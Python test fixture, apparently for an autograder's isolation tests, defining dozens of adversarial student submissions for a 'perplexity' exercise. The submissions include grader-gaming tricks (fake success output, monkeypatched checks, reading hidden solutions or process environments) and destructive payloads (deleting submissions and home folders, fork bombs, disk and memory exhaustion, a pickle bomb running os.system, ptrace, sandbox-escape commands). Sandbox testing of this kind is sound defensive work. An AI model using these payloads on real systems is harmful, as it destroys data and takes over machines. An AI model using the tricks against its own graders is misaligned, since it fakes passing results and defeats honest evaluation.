"""Cheats: cells that a student could hand in to get a point for nothing, or to do harm. None of them computes what is asked.

Each is Python that defines the function of one exercise, perplexity unless it says another. It may use what someone could know or
guess: ROOT (the project's folder on the teacher's machine), HOME (the teacher's), HANDED_IN (the folder of the submissions) and
PORT (where a friend on the same machine waits to be asked). tests/test_isolation.py hands them in.
"""
from typing import NamedTuple


class Cheat(NamedTuple):
    """What is handed in, and for which function.

    walls: whether it takes walls to stop it. spoils: whether it spoils the cheat's own notebook for good, other answers and all.
    """

    source: str
    function: str = "perplexity"
    walls: bool = False
    spoils: bool = False


STUB = """
def perplexity(loss):
    raise NotImplementedError
"""
SEARCH = """
import os

def found(name):
    for folder in (ROOT, HANDED_IN, HOME, os.getcwd(), "/tmp", "/home", "/root", "/srv", "/grading", "/opt", "/proc/1/root"):
        for place, folders, files in os.walk(folder):
            folders[:] = [part for part in folders if part not in ("site-packages", "proc", "sys", ".git")]
            if name in files:
                yield os.path.join(place, name)
"""
FIND_A_FUNCTION = """
def perplexity(loss):
    for candidate in candidates():
        if getattr(candidate, "__name__", "") == "perplexity" and candidate is not perplexity:
            return candidate(loss)
"""
HARM = """
import os

def try_to_write(path):
    try:
        with open(path, "w") as file:
            file.write("harm")
    except OSError:
        pass
"""
TICK = '"✔ Exercise 2.1, perplexity: right"'


def written(*parts: str, **more: bool) -> Cheat:
    return Cheat("\n".join(parts), **more)


CHEATS = {
    # Say that it is right.
    "prints a tick": written(f"print({TICK})", STUB),
    "prints a tick when called": written(f"def perplexity(loss):\n    print({TICK})"),
    "prints a tick at the end": written(f"import atexit\natexit.register(print, {TICK})", STUB),
    "has a tick for a name": written(f"def perplexity(loss):\n    return 0\nperplexity.__name__ = {TICK}"),
    "raises a tick": written(f"def perplexity(loss):\n    raise ValueError('\\n' + {TICK})"),
    "raises the check's own error with a tick": written(
        f"from gpt_checks.core import NotYet\ndef perplexity(loss):\n    raise NotYet({TICK})"),
    "returns a tick": written(f"def perplexity(loss):\n    return {TICK}"),
    "exits with 0": written("import os\ndef perplexity(loss):\n    os._exit(0)"),
    "exits with 0 in a cell": written("import os\nos._exit(0)"),
    "ends Python": written("import sys\ndef perplexity(loss):\n    sys.exit(0)"),
    "raises KeyboardInterrupt": written("def perplexity(loss):\n    raise KeyboardInterrupt"),

    # Change what judges.
    "patches the check": written("import gpt_checks.loss\ngpt_checks.loss.check_perplexity = lambda answer: True", STUB),
    "patches the engine": written(
        "from gpt_checks import core", "core.judge = core.Answer.__call__ = lambda *args, **kwargs: ('✔', 'right')",
        "core.want_that = core.kind_fault = lambda *args, **kwargs: None",
        "core.same = core.unchanged = lambda *args, **kwargs: True", STUB, spoils=True),
    "patches comparisons of torch and math": written(
        "import math, torch", "torch.allclose = torch.equal = math.isclose = lambda *args, **kwargs: True",
        "torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)",
        "torch.Tensor.__eq__ = lambda a, b: True", "def perplexity(loss):\n    return torch.tensor(1.0)"),
    "patches built-in functions": written(
        "import builtins", "builtins.isinstance = lambda *args: True", "builtins.abs = builtins.max = lambda *args: 0",
        "def perplexity(loss):\n    return 1.0"),
    "is equal to everything": written("""
class Equal(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *args: 0.0
    __hash__ = float.__hash__

def perplexity(loss):
    return Equal(1.0)
"""),
    "is a tensor that is equal to everything": written("""
import torch

class Equal(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.allclose, torch.equal, torch.Tensor.__eq__) else super().__torch_function__(
            func, types, args, kwargs or {})

def perplexity(loss):
    return torch.tensor(1.0).as_subclass(Equal)
"""),
    "lies about its type": written("""
class Liar:
    __class__ = float

    def __getattr__(self, name):
        return lambda *args, **kwargs: True

def perplexity(loss):
    return Liar()
"""),
    "changes the inputs, so that the right answer is known": Cheat("""
import math

def loader_loss(batches, batch_loss):
    for cell in batch_loss.__closure__:
        cell.cell_contents.data.zero_()
    return math.log(11)
""", "loader_loss"),
    "takes every batch away and says that it has trained": Cheat("""
def train(model, loader, optimizer, batch_loss, num_epochs):
    loader.batches.clear()
    loader.orders = [[]]
    loader.passes = num_epochs
    return [], []
""", "train"),
    "writes the model's log itself": Cheat("""
def train(model, loader, optimizer, batch_loss, num_epochs):
    losses, seen = [], []
    for _ in range(num_epochs):
        for inputs, targets in loader:
            for letter in "ZFBS":
                model.log.note(letter, inputs)
            losses.append(batch_loss(inputs, targets, model).item())
            seen.append(sum(seen[-1:]) + inputs.numel())
    return losses, seen
""", "train"),

    # Know the right answer.
    "imports the right answer": written("from gpt_checks.loss import perplexity"),
    "finds the right answer on the stack": written("""
import sys

def candidates():
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            yield from [getattr(value, "right", None) for value in list(scope.values())]
            yield from list(scope.values())
        frame = frame.f_back
""", FIND_A_FUNCTION),
    "finds the right answer in memory": written("import gc\ndef candidates():\n    return gc.get_objects()", FIND_A_FUNCTION),
    "reads the solutions from the disk": written(SEARCH, """
import json

def perplexity(loss):
    for path in found("02_loss.ipynb"):
        for cell in json.load(open(path, encoding="utf-8"))["cells"]:
            source = "".join(cell["source"])
            if source.startswith("def perplexity") and "NotImplementedError" not in source.split("BEGIN SOLUTION")[-1]:
                import math
                space = {"math": math}
                exec(source, space)
                try:
                    return space["perplexity"](loss)
                except NotImplementedError:
                    pass
""", walls=True),
    "reads the check from the disk": written(SEARCH, """
import sys

def perplexity(loss):
    for path in [*found("loss.py")]:
        if os.path.dirname(path).endswith("gpt_checks"):
            for module in [module for module in sys.modules if module.startswith("gpt_checks")]:
                del sys.modules[module]
            sys.path.insert(0, os.path.dirname(os.path.dirname(path)))
            from gpt_checks.loss import perplexity as right
            if right(loss):
                return right(loss)
""", walls=True),
    "reads a neighbour's answer": written(SEARCH, """
def perplexity(loss):
    for path in found("neighbour.py"):
        space = {}
        exec(open(path, encoding="utf-8").read(), space)
        return space["perplexity"](loss)
""", walls=True),
    "reads the answer from the teacher's environment": written("""
import os

def perplexity(loss):
    if "SECRET_ANSWER" in os.environ:
        return eval(os.environ["SECRET_ANSWER"])(loss)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            held = open(f"/proc/{pid}/environ", "rb").read().decode()
        except OSError:
            continue
        for line in held.split("\\0"):
            if line.startswith("SECRET_ANSWER="):
                return eval(line.partition("=")[2])(loss)
""", walls=True),
    "asks a friend on the network": written("""
import socket

def perplexity(loss):
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as friend:
        friend.sendall(repr(loss).encode())
        return float(friend.recv(100))
""", walls=True),
    "asks a package index": written("""
import urllib.request

def perplexity(loss):
    urllib.request.urlopen(f"http://localhost:{PORT}/{loss}", timeout=5)
""", walls=True),
    "seeds every generator": written("""
import random

import torch

def perplexity(loss):
    random.seed(0)
    torch.manual_seed(0)
    return {}.get(loss, 2.0)

random.seed(0)
torch.manual_seed(0)
random.uniform = random.Random.uniform = lambda *args: 0.0
"""),

    # Speak in the judge's place.
    "sends marks to the judge": written("""
import json, os

def perplexity(loss):
    data = json.dumps({"value": 1.0, "mark": "✔", "points": 100, "line": "✔ Exercise 2.1, perplexity: right"}).encode()
    for fd in range(3, 50):
        try:
            os.write(fd, len(data).to_bytes(8, "big") + data)
        except OSError:
            pass
    return 1.0
"""),
    "sends nonsense to the judge": written("""
import os

def perplexity(loss):
    for fd in range(3, 50):
        try:
            os.write(fd, b"\\x00" * 7 + b"\\x05[[[[[" + os.urandom(1000))
        except OSError:
            pass
"""),
    "says that a huge message comes": written("""
import os

def perplexity(loss):
    for fd in range(3, 50):
        try:
            os.write(fd, b"\\x7f" + b"\\xff" * 100)
        except OSError:
            pass
"""),
    "changes what is sent": written("""
import wire
write = wire.pack
wire.pack = lambda value, known=(): ["known", 0] if isinstance(value, float) else write(value, known)

def perplexity(loss):
    return 1.0
"""),
    "returns a bomb that explodes when it is unpickled": written(HARM, """
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {HANDED_IN}/exploded; touch {HOME}/exploded; touch /tmp/exploded",)

def perplexity(loss):
    return Bomb()
"""),
    "keeps threads that go on": written("""
import os, threading, time

def go_on():
    while True:
        for fd in range(3, 50):
            try:
                os.write(fd, b"\\x00" * 7 + b"\\x02{}")
            except OSError:
                pass
        time.sleep(0.01)

def perplexity(loss):
    threading.Thread(target=go_on, daemon=True).start()
    time.sleep(0.1)
    return 1.0
"""),

    # Do harm.
    "writes grades": written(HARM, """
def perplexity(loss):
    for folder in (HANDED_IN, os.path.dirname(HANDED_IN), HOME, ROOT, os.path.join(ROOT, "scripts"), os.getcwd(), "/"):
        for name in ("grades.csv", "harm", "02_loss.ipynb"):
            if not os.path.exists(os.path.join(folder, name)):
                try_to_write(os.path.join(folder, name))
    return 1.0
""", walls=True),
    "deletes the other submissions": written("""
import os, shutil

def perplexity(loss):
    shutil.rmtree(HANDED_IN, ignore_errors=True)
    shutil.rmtree(HOME, ignore_errors=True)
    return 1.0
""", walls=True),
    "starts processes without end": written("""
import os, time

def perplexity(loss):
    children = 0
    while children < 2000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    return 1.0
""", walls=True),
    "leaves a process behind": written("""
import os, time

def perplexity(loss):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    return 1.0
""", walls=True),
    "fills the disk": written("""
import os

def perplexity(loss):
    for folder in ("/tmp", "/dev/shm", "/dev", "/", os.getcwd(), HANDED_IN):
        try:
            for number in range(100):
                with open(os.path.join(folder, f"full_{number}"), "wb") as file:
                    file.write(bytes(50 * 2**20))
        except OSError:
            pass
    return 1.0
""", walls=True),
    "eats memory": written("""
def perplexity(loss):
    held = []
    while True:
        held.append(bytearray(b"x") * (100 * 2**20))
"""),
    "eats memory in many processes": written("""
import os, time

def perplexity(loss):
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(b"x") * (600 * 2**20)
            time.sleep(600)
            os._exit(0)
    time.sleep(30)
    return 1.0
"""),
    "returns more than can be read": written("def perplexity(loss):\n    return 'x' * (100 * 2**20)"),
    "returns a list in a list in a list": written("""
def perplexity(loss):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
"""),
    "returns a list of itself": written("def perplexity(loss):\n    value = []\n    value.append(value)\n    return value"),
    "never ends": written("def perplexity(loss):\n    while True:\n        pass"),
    "never ends and swallows what would stop it": written("""
def perplexity(loss):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""),
    "switches the clock off": written("""
import signal

def perplexity(loss):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
"""),
    "sends signals to whoever started it": written("""
import os, signal

def perplexity(loss):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1, -1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return 1.0
""", walls=True),
    "closes all that is open": written("import os\ndef perplexity(loss):\n    os.closerange(0, 4096)"),
    "traces whoever started it": written("""
import ctypes, os

def perplexity(loss):
    libc = ctypes.CDLL(None)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid != os.getpid():
            libc.ptrace(16, pid, 0, 0)
            try:
                open(f"/proc/{pid}/mem", "r+b").write(b"x")
            except OSError:
                pass
    return 1.0
""", walls=True),
    "breaks its walls from inside": written(HARM, """
def perplexity(loss):
    for command in ("mount -o remount,rw /", "umount /grading", "unshare -r true", "chroot /proc/1/root true",
                    "mknod /tmp/disk b 8 0", "sudo -n true", "su -c true"):
        os.system(f"{command} >/dev/null 2>&1")
    os.environ.clear()
    try_to_write("/grading/gpt_checks/core.py")
    return 1.0
""", walls=True),
}
BESIDE = {      # files that lie beside a submission, where Python would look for modules if it were run there
    "gpt_checks/__init__.py": "",
    "gpt_checks/loss.py": "check_perplexity = lambda answer: print('✔ Exercise 2.1, perplexity: right')\n",
    "gpt_checks/core.py": "raise SystemExit(0)\n",
    "sitecustomize.py": "import os\nos.environ['HARM'] = 'done'\nprint('✔ Exercise 2.1, perplexity: right')\n",
    "usercustomize.py": "raise SystemExit(0)\n",
    "torch.py": "raise SystemExit(0)\n",
    "wire.py": "raise SystemExit(0)\n",
    "neighbour.py": "import math\n\n\ndef perplexity(loss):\n    return math.exp(loss)\n",
}
